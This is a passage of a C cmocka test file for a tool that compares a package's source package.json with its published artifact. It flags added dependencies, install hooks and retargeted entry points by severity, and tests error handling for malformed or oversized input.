    diffj("{'version':'0.0.0','dependencies':{'@s/a':'workspace:*'}}",
          "{'version':'1.2.3','dependencies':{'@s/a':'1.2.3','evil':'^1.0.0'}}", &o);
    expect("dependency-added", SG_SEV_CRITICAL, "dependencies", "evil");
    expect_no_norm("package.json-format");
    assert_int_equal(sg_report_decide(rep, SG_SEV_HIGH), SG_VERDICT_FAIL);
}

/* ---------------------------------------------------------------- bad input */

static void test_manifest__invalid_artifact_json_is_einvalid(void **state)
{
    int rc;
    (void)state;
    rc = diff_raw("{}", "{\"a\":", NULL);
    assert_int_equal(rc, SG_EINVALID);
    assert_non_null(
        strstr(sg_error_message(ctx), "package.json in the artifact is not valid JSON"));
    expect_count(0);
}

static void test_manifest__invalid_source_json_is_einvalid(void **state)
{
    int rc;
    (void)state;
    rc = diff_raw("{'a'}", "{}", NULL);
    assert_int_equal(rc, SG_EINVALID);
    assert_non_null(strstr(sg_error_message(ctx), "package.json in the source is not valid JSON"));
}

static void test_manifest__non_object_top_level_is_einvalid(void **state)
{
    int rc;
    (void)state;
    rc = diff_raw("{}", "[1,2]", NULL);
    assert_int_equal(rc, SG_EINVALID);
    assert_non_null(
        strstr(sg_error_message(ctx), "package.json in the artifact is not a JSON object"));
    sg_error_clear(ctx);
    rc = diff_raw("\"x\"", "{}", NULL);
    assert_int_equal(rc, SG_EINVALID);
    assert_non_null(
        strstr(sg_error_message(ctx), "package.json in the source is not a JSON object"));
}

static void test_manifest__too_deep_json_is_refused(void **state)
{
    char *deep;
    size_t i, n = 10000;
    int rc;
    (void)state;
    deep = malloc(2 * n + 1);
    assert_non_null(deep);
    for (i = 0; i < n; i++) {
        deep[i] = '[';
        deep[2 * n - 1 - i] = ']';
    }
    deep[2 * n] = '\0';
    rc = sg_diff_manifest(rep, ctx, "{}", 2, deep, 2 * n, NULL);
    free(deep);
    assert_true(rc == SG_ELIMIT || rc == SG_EINVALID);
}

static void test_manifest__long_values_are_truncated_in_findings(void **state)
{
    char *art;
    size_t n = 5000, i;
    const sg_finding *f;
    (void)state;
    art = malloc(n + 64);
    assert_non_null(art);
    memcpy(art, "{\"scripts\":{\"postinstall\":\"", 27);
    for (i = 0; i < n; i++)
        art[27 + i] = 'x';
    memcpy(art + 27 + n, "\"}}", 4);
    assert_int_equal(diff_raw("{}", art, NULL), 0);
    free(art);
    f = expect("script-added", SG_SEV_CRITICAL, "scripts", "postinstall");
    assert_true(strlen(f->after) < 1100);
    assert_non_null(strstr(f->after, "..."));
}

static void test_manifest__allocation_failures_are_errors_not_crashes(void **state)
{
    sg_diff_opts o = opts_with_callbacks();
    const char *src = J("{'name':'@s/b','version':'0.0.0','bin':'./cli.js',"
                        "'scripts':{'prepare':'x','postinstall':'y'},"
                        "'dependencies':{'@s/a':'workspace:^','lodash':'catalog:','c':'^1'},"
                        "'bundleDependencies':true,'publishConfig':{'main':'d.js'},'x':[1,{}]}");
    const char *art = J("{'name':'@s/b','version':'1.2.3','bin':{'b':'cli.js','e':'e.js'},"
                        "'scripts':{'_postinstall':'y','test':'t'},'main':'d.js',"
                        "'dependencies':{'@s/a':'^1.2.3','lodash':'^4.17.21','c':'git:x'},"
                        "'bundleDependencies':['c'],'x':[1,{'a':2}]}");
    long n;
    int rc = -1;
    (void)state;
    for (n = 0; n < 5000; n++) {
        sg_report_free(rep);
        assert_int_equal(sg_report_new(&rep, ctx), 0);
        sg_error_clear(ctx);
        sg_alloc__fail_after(n);
        rc = sg_diff_manifest(rep, ctx, src, strlen(src), art, strlen(art), &o);
        sg_alloc__fail_after(-1);
        if (rc == 0)
            break;
        if (rc != SG_ENOMEM && rc != SG_EINVALID)
            fail_msg("allocation failure %ld gave %d (%s)", n, rc, sg_error_message(ctx));
        assert_true(sg_error_message(ctx)[0] != '\0');
    }
    assert_int_equal(rc, 0); /* enough allocations: it succeeds */
    expect("dependency-changed", SG_SEV_HIGH, "dependencies", "c");
}

#define T(name) cmocka_unit_test_setup_teardown(name, setup, teardown)

int main(void)
{
    const struct CMUnitTest tests[] = {
        T(test_manifest__identical_bytes_have_no_findings),
        T(test_manifest__format_only_differences_are_named_format),
        T(test_manifest__dependency_added_is_critical),
        T(test_manifest__optional_dependency_added_is_critical),
        T(test_manifest__peer_and_bundle_dependency_added_are_high),
        T(test_manifest__bundled_dependencies_true_bundles_every_dependency),
        T(test_manifest__bundle_spelling_change_with_same_names_is_not_a_finding),
        T(test_manifest__duplicate_key_uses_the_last_like_json_parse),
        T(test_manifest__dependency_range_change_is_medium),
        T(test_manifest__dependency_changed_to_non_registry_spec_is_high),
        T(test_manifest__peer_dependency_changed_to_git_is_high),
        T(test_manifest__dependency_removed_is_info),
        T(test_manifest__dependency_moved_to_optional_is_low),
        T(test_manifest__dependencies_not_an_object_in_artifact_is_critical),
        T(test_manifest__install_hook_added_is_critical),
        T(test_manifest__install_hook_changed_is_critical),
        T(test_manifest__prepare_added_or_changed_is_high),
        T(test_manifest__other_script_added_or_changed_is_high),
        T(test_manifest__pnpm_removed_scripts_are_named),
        T(test_manifest__other_removed_script_is_info_without_normalization),
        T(test_manifest__scripts_removed_entirely_is_info),
        T(test_manifest__pinst_disable_is_info),
        T(test_manifest__pinst_reversed_in_artifact_is_critical),
        T(test_manifest__malformed_source_scripts_do_not_hide_artifact_hooks),
        T(test_manifest__gypfile_turned_on_is_high),
        T(test_manifest__bin_string_and_object_forms_are_equivalent),
        T(test_manifest__bin_added_is_high),
        T(test_manifest__bin_retargeted_is_high),
        T(test_manifest__bin_removed_is_info),
        T(test_manifest__directories_bin_added_is_high),
        T(test_manifest__main_with_or_without_dot_slash_is_equal),
        T(test_manifest__entry_points_retargeted_are_medium),
        T(test_manifest__exports_key_order_and_commonjs_default_are_equal),
        T(test_manifest__name_files_engines_os_changes_have_their_severities),
        T(test_manifest__install_affecting_field_added_is_never_a_normalization),
        T(test_manifest__metadata_removed_at_publish_is_a_normalization),
        T(test_manifest__metadata_added_or_changed_is_info),
        T(test_manifest__version_placeholders_are_normalized),
        T(test_manifest__missing_source_version_is_a_placeholder),
        T(test_manifest__other_real_version_is_low),
        T(test_manifest__placeholder_with_other_release_version_is_low),
        T(test_manifest__workspace_specs_resolve_like_pnpm),
        T(test_manifest__workspace_spec_kept_literally_is_equal),
        T(test_manifest__unresolvable_workspace_vs_range_is_low_and_unverified),
        T(test_manifest__workspace_vs_git_spec_is_high),
        T(test_manifest__workspace_bumped_by_release_tools_is_low),
        T(test_manifest__catalog_specs_resolve),
        T(test_manifest__catalog_mismatch_is_medium),
        T(test_manifest__unresolvable_catalog_vs_range_is_low_and_unverified),
        T(test_manifest__jsr_spec_resolves_to_npm_alias),
        T(test_manifest__pnpm_publish_config_overlay_is_accepted),
        T(test_manifest__berry_publish_config_copy_is_accepted),
        T(test_manifest__entry_matching_neither_source_nor_publish_config_is_medium),
        T(test_manifest__publish_config_changed_otherwise_is_info),
        T(test_manifest__pnpm_publish_rewrites_pass),
        T(test_manifest__rewrites_do_not_hide_an_added_dependency),
        T(test_manifest__invalid_artifact_json_is_einvalid),
        T(test_manifest__invalid_source_json_is_einvalid),
        T(test_manifest__non_object_top_level_is_einvalid),
        T(test_manifest__too_deep_json_is_refused),
        T(test_manifest__long_values_are_truncated_in_findings),
        T(test_manifest__allocation_failures_are_errors_not_crashes),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
